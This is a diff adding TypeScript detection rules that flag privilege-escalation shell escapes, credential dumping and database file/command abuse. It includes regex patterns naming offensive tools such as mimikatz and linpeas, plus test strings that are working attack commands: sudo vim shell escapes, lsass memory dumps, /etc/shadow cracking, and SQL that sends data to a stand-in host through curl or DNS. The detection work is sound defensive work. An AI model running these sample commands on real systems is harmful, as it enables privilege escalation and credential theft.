@@ -1,0 +1,149 @@
+import type { Rule } from '../../rule.ts';
+import { PRIVILEGE_CHANGE } from '../privilege_change/format.ts';
+import { called, programs, upTo } from './call.ts';
+
+const SHELL = String.raw`(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh(?![\w.-])`;
+/** Where what a program is made to start stands, in the language of that program. */
+const ESCAPE = [
+  String.raw`:?![ \t]{0,2}${SHELL}`,
+  String.raw`:(?:shell|terminal|set[ \t]{1,4}shell=)`,
+  String.raw`(?:system|execute|popen|execvp?|execlp?|os\.\w{4,8})[ \t]?\([ \t]{0,2}[\\"']{1,4}${SHELL}[\\"' \t-]`,
+  String.raw`exec=[\\"']{0,3}${SHELL}`,
+  String.raw`-exec(?:dir)?[ \t]{1,4}${SHELL}(?=[ \t]{1,4}(?:-[ip]|\\?;|["'])|$)`,
+  String.raw`-(?:T{1,2}|s|c|i|e|x|qc)[ \t]{0,2}[\\"']{0,3}(?:exec[ \t]|reset;[ \t]?)?${SHELL}(?=[\\"' \t;]{0,4}(?:#|1>|0<|$|-[ip]\b|/dev/null))`,
+  String.raw`spawn[ \t]{1,4}${SHELL}`,
+  String.raw`(?:man[ \t]{1,4}-P|scp[ \t]{1,4}-S)[ \t]{0,2}["']?${SHELL}`,
+  String.raw`invoke::=?[ \t]?${SHELL}`,
+  String.raw`proxycommand[ =][\\"']{0,3};?${SHELL}`,
+  String.raw`\.(?:shell|system)[ \t]{1,4}${SHELL}`,
+  String.raw`\\![ \t]{0,2}${SHELL}`,
+  String.raw`(?:pager|editor)=[\\"']{0,3}${SHELL}`,
+  String.raw`[ \t]${SHELL}[ \t]-p(?=[\s;&|"']|$)`,
+  String.raw`(?:py(?:thon)?3?|lua|perl|ruby)[ \t]import[ \t]os[^\r\n]{0,60}?(?:exec|system)`,
+].join('|');
+
+/** Ways to rights that nobody gave, beside the ones that other rules know. */
+export const CALLED_RIGHTS_RULES: readonly Rule[] = [
+  called({
+    ...PRIVILEGE_CHANGE,
+    id: 'shell_from_program',
+    severity: 'medium',
+    source: 'https://attack.mitre.org/techniques/T1548/',
+    within: 180,
+    begins: [
+      programs(
+        'vi vim nvim rvim view ex ed nano pico emacs less more man awk gawk mawk nawk find tar zip rsync git gdb expect script strace ltrace flock taskset nmap tcpdump apt apt-get ssh scp sqlite3 mysql psql pip env xargs watch capsh pkexec openvpn make ftp wget crash dmsetup python python2 python3 perl ruby lua node php tclsh nice ionice timeout stdbuf setarch unshare busybox start-stop-daemon cpulimit journalctl systemctl doas sudo',
+      ),
+    ],
+    needs: [
+      new RegExp(
+        `^[^\\r\\n]{0,150}?(?:${ESCAPE})|^(?:pkexec|doas|sudo)[ \\t]{1,4}-u[ \\t]?\\\\?["']?#-1|^capsh[ \\t]${upTo(40)}--(?:gid|uid)=0|^pkexec[ \\t]{1,4}${SHELL}`,
+        'i',
+      ),
+    ],
+    refuses: [/docker[ \t](?:exec|run)|kubectl[ \t]exec|--version/i],
+    describes: 'A program, mostly one that may run as the administrator, that is made to start a shell.',
+    get finds() {
+      return [
+        "sudo vim -c ':!/bin/sh'",
+        'find . -exec /bin/sh -p \\; -quit',
+        'sudo awk \'BEGIN {system("/bin/sh")}\'',
+        'tar cf /dev/null a --checkpoint=1 --checkpoint-action=exec=/bin/sh',
+        'less /etc/profile\n!sh'.replace('\n', ' '),
+        "gdb -nx -ex '!sh' -ex quit",
+        'sudo git -c core.pager=/bin/sh help',
+        "ssh -o ProxyCommand=';sh 0<&2 1>&2' x",
+      ];
+    },
+    get ignores() {
+      return [
+        "find . -name '*.sh' -exec sh -c 'echo a' \\;",
+        'docker exec -it web /bin/bash -i',
+        "awk '{print $1}' a.sh",
+        'git commit -m "fix sh"',
+        'vim script.sh',
+        'env FOO=1 bash build.sh',
+        "sudo -u postgres psql -c '\\du'",
+      ];
+    },
+  }),
+  called({
+    ...PRIVILEGE_CHANGE,
+    id: 'credentials_dumped',
+    source: 'https://attack.mitre.org/techniques/T1003/',
+    within: 0,
+    begins: [
+      [
+        `(?<![\\w.$-])(?:${[
+          String.raw`reg(?:\.exe)?[ \t]{1,4}(?:save|export)[ \t]{1,4}["']?(?:hklm|hkey_local_machine)\\{1,4}(?:sam|security|system)\b`,
+          String.raw`(?:procdump\w{0,4}|rundll32|tasklist|get-process|out-minidump|createdump|sqldumper|taskmgr|dumpert|nanodump)(?:\.exe)?[ \t][^\r\n]{0,120}?(?:lsass|minidump)`,
+          String.raw`ntdsutil(?:\.exe)?[ \t][^\r\n]{0,80}?ifm|(?:copy|esentutl|robocopy|xcopy|cp)(?:\.exe)?[ \t][^\r\n]{0,120}?(?:ntds\.dit|config\\{1,4}(?:sam|system|security)\b)|vaultcmd(?:\.exe)?[ \t]{1,4}/list|cmdkey(?:\.exe)?[ \t]{1,4}/list[^\r\n]{0,80}?runas`,
+          String.raw`(?:gcore|gdb)[ \t][^\r\n;|]{0,60}?(?:pidof|pgrep|sshd|-p[ \t]{0,2}1\b|ssh-agent|gnome-keyring|dump[ \t]memory)[^\r\n;|]{0,40}|(?:dd|strings|cat|xxd)[ \t][^\r\n;|]{0,20}?/(?:dev/k?mem|proc/(?:kcore|\d{1,7}/mem))\b`,
+          String.raw`(?:cat|cp|dd[ \t]if=|base64|tar|head|install|sudo[ \t]cat)[ \t]{0,4}[^\r\n;|]{0,60}?/etc/g?shadow(?![\w-])[^\r\n;|]{0,20}?(?:>|[ \t]/|[ \t]\./|[ \t]~)|(?:john|unshadow|hashcat)[ \t][^\r\n;|]{0,80}?(?:shadow|/tmp/|hashes?\b|\.hash)`,
+          String.raw`security[ \t]dump-keychain|sqlite3[ \t][^\r\n;|]{0,80}?TCC\.db`,
+        ].join('|')})`,
+        'reg save,reg export,reg.exe save,reg.exe export,hklm,hkey_local,lsass,minidump,ntdsutil,ntds.dit,config\\,vaultcmd,cmdkey,gcore,gdb,/dev/,/proc/,shadow,john ,hashcat,keychain,tcc.db',
+      ],
+      [
+        String.raw`mimikatz|sekurlsa|lsadump|pypykatz|lazagne|mimipenguin|invoke-(?:mimikatz|kerberoast|dcsync|bloodhound|sharefinder|powershelltcp)|comsvcs(?:\.dll)?[ ,\t#"']{1,6}(?:minidump|24)|secretsdump|sharphound|rubeus|kerbrute|seatbelt\.exe|linpeas|winpeas|linenum\.sh|pspy(?:32|64)|nopac\b|printnightmare|pwnkit|dirtypipe|dirtycow`,
+        'mimikatz,sekurlsa,lsadump,pypykatz,lazagne,mimipenguin,invoke-,comsvcs,secretsdump,sharphound,rubeus,kerbrute,seatbelt,linpeas,winpeas,linenum,pspy,nopac,printnightmare,pwnkit,dirtypipe,dirtycow',
+      ],
+    ],
+    describes: 'Passwords, their hashes or the memory that holds them, taken by a command.',
+    get finds() {
+      return [
+        'reg save HKLM\\SAM C:\\s.hiv',
+        'cat /etc/shadow > /tmp/s; john /tmp/s',
+        'procdump -ma lsass.exe out.dmp',
+        'rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\o.dmp full',
+        'gcore -o /tmp/c $(pidof sshd)',
+      ];
+    },
+    get ignores() {
+      return [
+        'ls -l /etc/shadow',
+        'reg query HKLM\\SYSTEM',
+        'tasklist /fi "imagename eq node.exe"',
+        'gdb ./a.out',
+        'dear john /x',
+      ];
+    },
+  }),
+  called({
+    ...PRIVILEGE_CHANGE,
+    id: 'database_leaves_its_bounds',
+    source: 'https://attack.mitre.org/techniques/T1190/',
+    within: 60,
+    begins: [
+      [
+        `(?:${[
+          String.raw`load_file\([^)\r\n]{0,40}?(?:/etc/|/root|/home|/proc|/var/|\.ssh|\\{2,8}|0x2f|0x5c|concat|char\(|wp-config|\.env)`,
+          String.raw`pg_(?:read_(?:binary_)?file|ls_dir)\([^)\r\n]{0,60}?(?:/etc|/root|/home|/proc|/var|\.\./)|lo_(?:import|export)\([^)\r\n]{0,60}?/`,
+          String.raw`into[ \t]{1,4}(?:out|dump)file[ \t]{1,4}[^\r\n;]{0,60}?(?:/var/www|htdocs|wwwroot|\.(?:php|jsp|aspx?|so|dll)\b|cron|\.ssh|authorized|/etc/|\\{2,8}[\w.])`,
+          String.raw`copy[ \t][^;\r\n]{1,200}?(?:to|from)[ \t]{1,4}program[ \t]{1,4}[\\"'$]{1,4}[^\r\n;]{0,80}?(?:curl|wget|nc\b|bash|sh\b|python|perl|base64|/dev/tcp|powershell)`,
+          String.raw`xp_(?:cmdshell|dirtree|fileexist|regwrite|subdirs)|sp_(?:oacreate|execute_external_script)|openrowset\([ \t]{0,2}bulk|sys_(?:exec|eval)\(|soname[ \t]{1,4}[\\"']{1,4}[\w./-]{1,60}\.(?:so|dll)`,
+          String.raw`utl_(?:http\.request|inaddr\.get|file\.fopen|tcp\.)|dbms_(?:scheduler\.create_job|java|ldap\.init)|httpuritype\(|load[ \t]data[ \t](?:local[ \t])?infile[ \t]{1,4}[\\"']{1,4}(?:/etc|/root|/home|/proc|c:)|load_extension\(|attach[ \t]database[ \t]{1,4}[\\"']{1,4}/(?:var|etc|home|root)|dblink(?:_connect)?\([^)\r\n]{0,40}?host=`,
+        ].join('|')})`,
+        'load_file(,pg_read_,pg_ls_dir,lo_import,lo_export,outfile,dumpfile,program,xp_,sp_oacreate,sp_execute,openrowset,sys_exec,sys_eval,soname,utl_,dbms_,httpuritype,infile,load_extension,attach database,dblink',
+      ],
+    ],
+    describes: 'A statement by which a database reads files, runs programs or calls other machines.',
+    get finds() {
+      return [
+        "SELECT LOAD_FILE('/etc/passwd');",
+        "SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.x.example\\\\a'));",
+        "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- http://x.example';",
+        "EXEC xp_cmdshell 'whoami';",
+        "SELECT '<?php ?>' INTO OUTFILE '/var/www/html/a.php'",
+      ];
+    },
+    get ignores() {
+      return [
+        "COPY orders TO '/tmp/orders.csv' CSV;",
+        "SELECT * INTO OUTFILE '/tmp/a.csv' FROM a;",
+        "LOAD DATA LOCAL INFILE 'a.csv' INTO TABLE a;",
+        "COPY a TO PROGRAM 'gzip > /tmp/a.gz';",
+      ];
+    },
+  }),
+];
